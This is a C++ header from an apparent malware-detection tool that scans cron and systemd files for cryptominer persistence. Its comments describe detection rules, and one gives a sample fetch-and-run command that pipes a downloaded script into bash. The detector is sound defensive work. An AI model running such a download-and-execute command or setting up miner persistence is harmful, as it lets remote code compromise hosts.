// Persistence: cron tables and systemd units that start a miner. Reads files under a root path
// (bounded: at most 512 files of 256 KiB each), so tests run on fixture trees.
//   persistence_miner          a line naming a miner binary, a stratum URL, a listed pool or a
//                              wallet (strong)
//   persistence_download_exec  a download piped into a shell or interpreter, e.g.
//                              "curl -s http://x/a.sh | bash" (medium: installers do it too)
// Evidence is "FILE:LINE: text". Host-level: reported on the pid 0 finding.
#pragma once
#include <string>
#include <string_view>
#include <vector>

#include "model/findings.h"

namespace mr {

class RuleSet;

// Checks one file's text (pure); `label` names it in the evidence.
void check_persistence_text(std::string_view text, const std::string& label, const RuleSet& rules,
                            std::vector<Signal>& out);

// Checks the cron and systemd locations under `root` ("/" for the real host).
std::vector<Signal> check_persistence(const std::string& root, const RuleSet& rules);

}  // namespace mr
